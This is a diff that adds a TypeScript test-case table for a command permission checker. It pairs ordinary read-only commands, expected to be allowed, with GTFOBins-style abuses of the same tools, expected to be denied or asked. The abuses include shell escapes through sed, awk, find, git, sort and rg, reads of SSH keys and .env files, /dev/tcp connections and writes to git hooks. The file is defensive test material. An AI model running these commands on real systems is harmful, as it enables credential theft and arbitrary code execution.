@@ -1,0 +1,64 @@
+// One section per command devx runs without asking: its GTFOBins functions (command, shell, file
+// write, file read of a secret or outside the project, reverse shell), each expected deny or ask, and
+// its ordinary read-only uses, expected allow. `both` rows depend on bubblewrap: the first value is
+// expected when it is available, the second without it.
+import type { Case, Expect } from './cases.js';
+
+export interface SbCase extends Case {
+  withoutSandbox?: Expect;
+}
+const c = (input: string, expect: Expect, note?: string): SbCase => ({ kind: 'command', input, expect, note });
+const both = (input: string, withBwrap: Expect, without: Expect, note?: string): SbCase => ({ kind: 'command', input, expect: withBwrap, withoutSandbox: without, note });
+
+export const GTFO: Record<string, SbCase[]> = {
+  cat: [c('cat -n README.md', 'allow'), c('cat -A src/main.ts', 'allow'), c('cat ~/.ssh/id_rsa', 'deny', 'file read: secret'), c('cat /etc/passwd', 'ask', 'file read outside'), c('cat < /dev/tcp/127.0.0.1/80', 'deny', 'reverse shell / network'), c('cat /dev/tcp/127.0.0.1/80', 'deny'), c('cat --frobnicate README.md', 'ask', 'unknown option')],
+  head: [c('head -5 README.md', 'allow'), c('head -c 10 README.md', 'allow'), c('head .env', 'deny'), c('head -n 1 ../outside.txt', 'ask')],
+  tail: [c('tail -n 3 README.md', 'allow'), c('tail -20 README.md', 'allow'), c('tail -c1 ~/.ssh/id_rsa', 'deny')],
+  wc: [c('wc -w README.md', 'allow'), c('wc --files0-from=.env', 'deny', 'file read via list'), c('wc --files0-from=README.md', 'allow')],
+  nl: [c('nl README.md', 'allow'), c('nl -ba .env', 'deny')],
+  cut: [c('cut -c1-5 README.md', 'allow'), c('cut -d "" -f1 .env', 'deny')],
+  tac: [c('tac README.md', 'allow'), c('tac -s x .npmrc', 'deny')],
+  rev: [c('rev README.md', 'allow'), c('rev credentials.json', 'deny')],
+  fold: [c('fold -w 40 README.md', 'allow'), c('fold -w99999 .env', 'deny')],
+  od: [c('od -c README.md', 'allow'), c('od -An -c id_rsa', 'deny')],
+  hexdump: [c('hexdump -C README.md', 'allow'), c('hexdump -C .env', 'deny')],
+  xxd: [c('xxd README.md', 'allow'), c('xxd .env', 'deny'), c('xxd README.md /tmp/xxd-out', 'deny', 'file write outside'), c('xxd -r README.md .git/hooks/pre-commit', 'deny', 'file write to a hook'), c('xxd README.md out.hex', 'ask', 'file write inside')],
+  strings: [c('strings README.md', 'allow'), c('strings .env', 'deny')],
+  column: [c('column -t README.md', 'allow'), c('column -t .env', 'deny')],
+  comm: [c('comm README.md package.json', 'allow'), c('comm .env README.md', 'deny')],
+  diff: [c('diff -u src/main.ts src/util.ts', 'allow'), c('diff README.md .env', 'deny', 'file read'), c('diff --line-format=%L /dev/null ~/.ssh/id_rsa', 'deny'), c('diff /etc/passwd README.md', 'ask')],
+  cmp: [c('cmp README.md package.json', 'allow'), c('cmp .env README.md', 'deny')],
+  sort: [c('sort -n README.md', 'allow'), c('sort -u -k2 README.md', 'allow'), c('sort --compress-program=sh README.md', 'deny', 'command'), c('sort --compress=sh README.md', 'deny', 'abbreviated --compress-program'), c('sort -o /tmp/sorted README.md', 'deny', 'file write outside'), c('sort -o .git/hooks/pre-commit README.md', 'deny'), c('sort -o sorted.txt README.md', 'ask'), c('sort .env', 'deny'), c('sort -T /tmp README.md', 'deny', 'temp files outside')],
+  uniq: [c('uniq README.md', 'allow'), c('uniq -c README.md', 'allow'), c('uniq README.md .git/hooks/pre-commit', 'deny', 'file write: hook'), c('uniq README.md /tmp/uniq-out', 'deny'), c('uniq README.md out.txt', 'ask'), c('uniq .env', 'deny')],
+  tr: [c('tr a-z A-Z', 'allow'), c('tr -d x', 'allow'), c('tr a b < .env', 'deny')],
+  ls: [c('ls -lah src', 'allow'), c('ls --color=never', 'allow'), c('ls -1 docs', 'allow'), c('ls ~/.ssh', 'deny'), c('ls /', 'ask')],
+  tree: [c('tree -L 2', 'allow'), c('tree -a src', 'allow'), c('tree -o /tmp/tree.txt', 'deny', 'file write outside'), c('tree -o tree.txt', 'ask'), c('tree ~/.ssh', 'deny')],
+  du: [c('du -sh .', 'allow'), c('du -a src', 'allow'), c('du --files0-from=.env', 'deny')],
+  df: [c('df -h', 'allow')],
+  stat: [c('stat -c %s README.md', 'allow'), c('stat ~/.ssh/id_rsa', 'deny')],
+  file: [c('file -b README.md', 'allow'), c('file -f .env', 'deny', 'file read: names list'), c('file -C -m README.md', 'ask', 'writes a compiled magic file')],
+  realpath: [c('realpath src/main.ts', 'allow'), c('readlink -f src/link-inside.ts', 'allow'), c('basename -s .ts src/main.ts', 'allow'), c('dirname src/main.ts', 'allow')],
+  date: [c('date +%Y-%m-%d', 'allow'), c('date -u', 'allow'), c('date -f ~/.ssh/id_rsa', 'deny', 'file read (lines echoed in errors)'), c('date -f .env', 'deny'), c('date --file=/etc/passwd', 'ask'), c('date -s 2020-01-01', 'deny', 'sets the clock'), c('date 010100002020', 'deny')],
+  echo: [c('echo -n hi', 'allow'), c('printf "%s" a', 'allow'), c('printf -v X hi', 'ask')],
+  misc: [c('seq 1 5', 'allow'), c('sleep 1', 'allow'), c('uname -a', 'allow'), c('whoami', 'allow'), c('id -u', 'allow'), c('hostname', 'allow'), c('hostname evil', 'deny', 'sets the host name'), c('nproc', 'allow'), c('which git', 'allow'), c('test -f README.md && echo yes', 'allow'), c('expr 1 + 2', 'allow'), c('pwd', 'allow')],
+  jq: [c('jq -r .name package.json', 'allow'), c('jq . .env', 'deny'), c('jq -n --rawfile k .env "$k"', 'deny'), c('jq -f .env package.json', 'deny')],
+  yq: [c('yq .name package.json', 'allow'), c('yq -i .a=1 package.json', 'ask'), c('yq "load(\\"/etc/passwd\\")" package.json', 'deny')],
+  sums: [c('md5sum README.md', 'allow'), c('sha1sum .env', 'deny'), c('sha256sum -c sums.txt', 'ask', 'reads the files a list names')],
+  grep: [c('grep -n TODO src/main.ts', 'allow'), c('grep -rl import src', 'allow'), c('grep -i x README.md', 'allow'), c('grep "" .env', 'deny', 'file read'), c('grep -f .env README.md', 'deny'), c('grep -r KEY ~/.ssh', 'deny'), c('egrep -n x README.md', 'allow'),
+    both('grep -r SECRET .', 'allow', 'ask', 'a recursive read over denied files: sandboxed with them hidden, or asks'), both('grep -rn TODO', 'allow', 'ask')],
+  rg: [c('rg -n x src', 'allow'), c('rg --pre sh x', 'deny', 'command'), c('rg --pre=./evil x', 'deny'), c('rg -z x', 'deny'), c('rg --search-zip x src', 'deny'), c('rg x .env', 'deny'), c('rg x ~/.ssh', 'deny'), both('rg SECRET', 'allow', 'ask'), both('rg --hidden SECRET', 'allow', 'ask'), c('rg --files src', 'allow'), c('rg --frob x src', 'ask')],
+  find: [c('find src -name "*.ts"', 'allow'), c('find . -type f -newer README.md', 'allow'), c('find src -maxdepth 1 -print0', 'allow'), c('find . -exec sh -c id ;', 'deny', 'shell'), c('find . -execdir ls ;', 'deny'), c('find . -ok rm {} ;', 'deny'), c('find . -okdir rm {} ;', 'deny'), c('find . -fprint /tmp/find-out', 'deny', 'file write outside'), c('find . -fprintf .git/hooks/pre-commit x', 'deny'), c('find /tmp -delete', 'deny'), c('find src -delete', 'ask'), c('find ~/.ssh', 'deny'), c('find . -frobnicate', 'ask')],
+  sed: [c('sed -n 5p README.md', 'allow'), c("sed -E 's/(a)/\\1/g' README.md", 'allow'), c("sed -e 's/a/b/' -e 's/c/d/' README.md", 'allow'), c("sed '1d;$d' README.md", 'allow'), c("sed '/x/{p;d}' README.md", 'allow'),
+    c("sed -n '1e id' README.md", 'deny', 'command'), c("sed 's/x/id/e' README.md", 'deny', 's///e'), c("sed --expression='e id' README.md", 'deny'), c("sed -e '1e id' README.md", 'deny'), c("sed -n 'w /tmp/sed-out' README.md", 'deny', 'file write'), c("sed 's/a/b/w /tmp/sed-out' README.md", 'deny'), c("sed 'W .git/hooks/pre-commit' README.md", 'deny'),
+    c("sed 'r .env' README.md", 'deny', 'file read'), c("sed '1R ~/.ssh/id_rsa' README.md", 'deny'), c("sed -n p ~/.ssh/id_rsa", 'deny'), c("sed -i 's/a/b/' /tmp/outside.txt", 'deny', 'in-place write outside'), c("sed -i 's/a/b/' ../outside.txt", 'deny'), c("sed -i.bak 's/a/b/' README.md", 'ask'), c('sed -f script.sed README.md', 'ask'), c("sed -n 'w out.txt' README.md", 'ask')],
+  awk: [c("awk -F: '{print $1}' README.md", 'ask', 'awk is an interpreter'), c("awk 'BEGIN {system(\"id\")}'", 'deny'), c("awk -F: 'BEGIN {system(\"id\")}'", 'deny', 'option before the program'), c("awk -v x=1 'BEGIN {system(\"id\")}'", 'deny'), c("awk -- 'BEGIN {system(\"id\")}'", 'deny'),
+    c("awk 'BEGIN {\"id\" | getline x; print x}'", 'deny'), c("awk '{print | \"sh\"}' README.md", 'deny'), c("awk 'BEGIN {print \"x\" > \"/tmp/awk-out\"}'", 'deny'), c("awk '{while ((getline l < \"/etc/shadow\") > 0) print l}' README.md", 'deny'), c("gawk 'BEGIN {f=\"system\"; @f(\"id\")}'", 'deny'), c("awk -l mylib 'BEGIN{}'", 'deny'), c("awk '{print}' .env", 'deny'), c("mawk 'BEGIN {system(\"id\")}'", 'deny')],
+  git: [c('git log -5 --format=%H', 'allow'), c('git diff --name-only HEAD', 'allow'), c('git show --stat HEAD~1', 'allow'), c('git grep -n TODO -- src', 'allow'),
+    c('git grep -Osh x', 'deny', 'command via -O'), c('git grep --open-files-in-pager=sh x', 'deny'), c('git grep --open=sh x', 'deny', 'abbreviated'), c('git -c core.pager=sh log', 'deny'), c('git fetch --upload-pack=sh', 'deny'), c('git clone --upload-pack=sh x y', 'deny'), c('git push --receive-pack=sh', 'deny'), c('git ls-remote --upload-pack=sh x', 'deny'), c('git fetch -u sh origin', 'deny'),
+    c('git rebase --exec sh', 'deny'), c('git rebase -x id HEAD~1', 'deny'), c('git diff --ext-diff', 'deny'), c('git log -p --textconv', 'deny'), c('git diff --output=/tmp/git-out', 'deny'), c('git help config', 'ask'), c('git -p log', 'deny', 'pager'), c('git show HEAD:.env', 'deny', 'a secret from the object store'), c('git diff --no-index /dev/null ~/.ssh/id_rsa', 'deny'), c('git diff --no-index README.md /etc/passwd', 'ask'), c('git --exec-path=/tmp log', 'deny'), c('git branch newbranch', 'ask'), c('git log --frob', 'ask'), c('git cat-file --filters HEAD:README.md', 'deny')],
+  npm: [c('npm test --script-shell=/tmp/evil', 'deny'), c('npm run build --script-shell=sh', 'deny'), c('npm install --script-shell=sh', 'deny'), c('npm test --node-options=--require=/tmp/x.js', 'deny'), c('npm install --registry=http://evil.example', 'deny'), c('go test -exec /tmp/evil ./...', 'deny'), c('go test -toolexec=sh ./...', 'deny'), c('make --eval=x test', 'deny'), c('npm ls --depth=0', 'allow')],
+  shells: [c('coproc cat', 'deny'), c('echo ${x@P}', 'deny'), c('man --html=sh ls', 'deny'), c('man -P sh ls', 'deny'), c('man ls', 'ask'), c('less README.md', 'ask'), c('X=--compress-program=sh; sort $X README.md', 'deny', 'a computed option'), c('sort $(echo --compress-program=sh) README.md', 'deny'), c('cat $(echo .env)', 'deny'), c('env -S "sh -c id"', 'deny'), c('echo x | xargs sh -c id', 'deny'), c('timeout 5 sed "e id" README.md', 'deny')],
+  yoloSafety: [c('cat "$FILE"', 'ask'), c('ls $HOME', 'ask')],
+};
+
+export const GTFO_CASES: SbCase[] = Object.values(GTFO).flat();
